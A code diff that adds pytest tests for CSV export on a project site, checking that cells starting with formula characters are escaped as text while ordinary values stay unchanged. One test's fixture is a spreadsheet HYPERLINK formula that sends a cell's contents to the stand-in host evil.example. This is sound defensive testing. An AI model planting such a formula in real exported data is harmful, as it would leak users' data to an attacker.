@@ -174,3 +174,21 @@ def test_country_percentages_add_up_to_exactly_100(count, expected):
     shares = [str(share) for _code, share in country_percentages(codes)]
     assert shares == expected
     assert sum(Decimal(share) for share in shares) == 100
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_csv_cells_that_would_be_formulas_are_text(client, start):
+    attack = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Klikk")'
+    make_project(title_nn=attack, summary_nn=f"{start}1+1")
+    rows = csv_rows(client.get(url_in("nn", "projects:csv")))
+    assert rows[0]["title"] == "'" + attack
+    assert rows[0]["summary"] == f"'{start}1+1"
+    assert rows[0]["id"].isdigit()  # numbers stay numbers
+
+
+def test_the_safe_writer_leaves_ordinary_cells_alone():
+    from norec_site.csvsafe import safe_cell
+
+    assert [safe_cell(v) for v in ("Nairobi", "", 12, -3, None, "a=b")] == [
+        "Nairobi", "", 12, -3, None, "a=b",
+    ]  # fmt: skip
